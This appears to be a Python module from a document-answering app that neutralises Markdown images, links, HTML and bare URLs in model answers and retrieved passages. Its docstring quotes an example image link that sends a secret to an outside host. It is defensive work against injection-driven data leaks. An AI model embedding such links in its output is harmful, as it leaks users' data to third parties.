"""Make Markdown safe to show: nothing in it may load or link anything outside the app.

Answers are written by a model that read the documents, and passages are the documents
themselves; either may carry `![logo](http://host/x.png?q=<secret>)`, a raw `<img>`, an
autolink or a bare URL that the renderer turns into a link. A browser fetches an image the
moment it renders it, so showing such text live hands what the reader sees to that host.

`neutralise` is for rendering: Markdown that shows the same characters, with every external
image, link and HTML tag left as inert text. `strip_embeds` and `urls` serve the citation
check, which takes such things out of a generated answer before anyone stores or shows it.
"""

from __future__ import annotations

import re

# An app-local destination that every Markdown renderer reads exactly as written: a fragment
# (a citation's "#cite-3-1") or a path on this origin ("/gradio_api/file=…"). No "&" or "\"
# (entities and escapes are decoded in destinations), no whitespace (a URL parser drops tabs
# and newlines, so "/\t/host" would become "//host"), no "/" or "\" right after the first "/"
# (protocol-relative: another host), and ")" right after it (no title, no "<…>" form).
_LOCAL_DESTINATION = r"(?:#[A-Za-z0-9_-]*|/(?![/\\])[A-Za-z0-9_\-./=%~+]*)\)"

_UNSAFE = re.compile(
    rf"(?P<local>\]\({_LOCAL_DESTINATION})"  # an inline link or image into the app itself
    r"|(?P<inline>\]\()"  # any other: "](" is what makes "[text](…)" and "![alt](…)" live
    r"|(?P<definition>\]:)"  # "[ref]: http://…" gives "[text][ref]" and "![x][ref]" a target
    r"|(?P<tag><(?=[A-Za-z/!?]))"  # raw HTML (<img>, <iframe>, <a>, comments) and <scheme:…> autolinks
    r"|(?P<scheme>(?<![A-Za-z0-9+.-])[A-Za-z][A-Za-z0-9+.-]*:(?=//))"  # a bare http://…, linkified
    r"|(?P<www>(?<![A-Za-z0-9.-])www\.)"  # a bare www.host, linkified
    r"|(?P<email>(?<=[A-Za-z0-9._%+-])@(?=[A-Za-z0-9-]+\.))",  # a@b.c, linkified as mailto:
    re.IGNORECASE,
)


def neutralise(markdown: str, keep_local: bool = True) -> str:
    """`markdown` with every external image and link, every HTML tag, bare URL and e-mail
    address made inert; rendered, it reads the same. keep_local: links and images into this
    app (citations "#cite-…", figures "/gradio_api/file=…") keep working; False makes those
    inert too (a document's own text has no business linking into the app either)."""

    def defuse(match: re.Match) -> str:
        text, kind = match.group(0), match.lastgroup
        if kind == "local" and keep_local:
            return text
        if kind in ("local", "inline"):
            return "]\\(" + text[2:]  # an escaped "(" cannot open a destination; it still reads "("
        if kind == "definition":
            return "]\\:"
        if kind == "tag":
            return "&lt;"
        # A character reference is not seen by the autolinker, and renders as the character.
        assert kind is not None  # every alternative of _UNSAFE is a named group
        return text[:-1] + {"scheme": "&#58;", "www": "&#46;", "email": "&#64;"}[kind]

    return _UNSAFE.sub(defuse, markdown)


_IMAGE = re.compile(r"!\[(?:[^\[\]]|\[[^\[\]]*\])*\](?:\((?:[^()]|\([^()]*\))*\)|\[[^\[\]]*\])?")
_LINK = re.compile(r"\[((?:[^\[\]]|\[[^\[\]]*\])*)\]\((?:[^()]|\([^()]*\))*\)")
_TAG = re.compile(r"<[A-Za-z/!?][^<>]*>?")
_URL = re.compile(r"(?:\b[A-Za-z][A-Za-z0-9+.-]*:)?//[^\s<>()\[\]{}\"'`]+|\bwww\.[^\s<>()\[\]{}\"'`]+", re.IGNORECASE)


def strip_embeds(text: str) -> str:
    """Generated text without Markdown images (alt text too), HTML tags and autolinks, and
    with Markdown links reduced to their text: an answer states facts and cites them with
    [n]; it never needs to show a picture or send the reader elsewhere."""
    text = _IMAGE.sub("", text)
    # "[2](…)": a citation the model wrapped in a link stays a citation.
    text = _LINK.sub(lambda m: f"[{m.group(1)}]" if re.fullmatch(r"\d+(?:\s*,\s*\d+)*", m.group(1)) else m.group(1), text)
    return _TAG.sub("", text)


def urls(text: str) -> list[str]:
    """The URLs written out in `text` (scheme://…, //host…, www.…), without the punctuation
    that ends the sentence around them."""
    return [m.group(0).rstrip(".,;:!?") for m in _URL.finditer(text)]
